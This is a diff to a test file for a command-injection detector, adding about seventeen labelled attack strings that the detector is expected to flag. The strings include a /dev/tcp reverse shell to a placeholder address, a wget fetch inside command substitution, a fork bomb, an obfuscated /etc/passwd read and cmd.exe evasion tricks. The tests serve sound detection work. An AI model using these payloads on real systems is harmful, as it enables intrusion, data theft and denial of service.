@@ -7,6 +7,23 @@ const score = (text: string): number =>
   Math.max(...viewsOf(text, 'query').map((view) => commandInjection(view)))
 
 const attacks: readonly [what: string, text: string][] = [
+  ['a function of PHP behind a pipe', "| system('sleep 7');"],
+  ['a function of PHP without an argument', '|| phpinfo()'],
+  ['a command within a command', '$(`wget http://a.example`)'],
+  ['a connection by a variable', 'd=/dev&&(sh)0>$d/tcp/192.0.2.7/7'],
+  ['what tells who one is, handed to a shell', 'strace whoami | sh'],
+  ['a condition of cmd.exe', 'if "%A%" equ "7" echo a'],
+  ['a condition on a variable of cmd.exe', 'if not defined A set B=7& echo %B%'],
+  ['a loop of cmd.exe', 'for %%a in (b c) do echo %%a'],
+  ['a name whose letters are quoted', "'wh'oami"],
+  ['a name whose first letter is quoted', '"w"get a.example'],
+  ['braces with an empty end', '{,ifconfig}'],
+  ['a substitution of nothing', '$(whoami$())'],
+  ['a function that calls itself', 'a(){ a & a; };a'],
+  ['a name of a file that is guessed', '/etc/[m-z]asswd'],
+  ['a quote, with a command that tells', '" whoami'],
+  ['an option that runs a command', 'a--exec=`id`'],
+  ['blanks of a form', '+dir+c:/+|'],
   ['a semicolon', 'x;id'],
   ['a semicolon and blanks, after an address', '10.1.2.3 ; whoami'],
   ['a pipe to a program by its path', 'report|/usr/bin/id'],
